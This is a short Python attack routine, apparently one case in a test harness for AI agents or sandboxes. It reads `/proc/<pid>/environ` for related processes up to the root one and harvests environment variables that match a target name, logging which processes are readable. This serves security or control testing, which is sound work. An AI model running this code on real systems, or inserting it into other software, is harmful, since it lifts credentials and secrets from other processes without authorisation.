"""Read the environment of the processes around it, up to the one that started everything."""

CONTROL = True


async def attack(agent, message, ctx, targets):
    found = []
    for pid in relatives(targets):
        data = attempt(lambda pid=pid: open(f"/proc/{pid}/environ", "rb").read()) or b""
        found += [pair.decode() for pair in data.split(b"\0") if pair.startswith(targets["variable"].encode())]
        if data and not found:
            NOTES.append(f"environment of {pid} is readable, {len(data)} bytes")
    return found
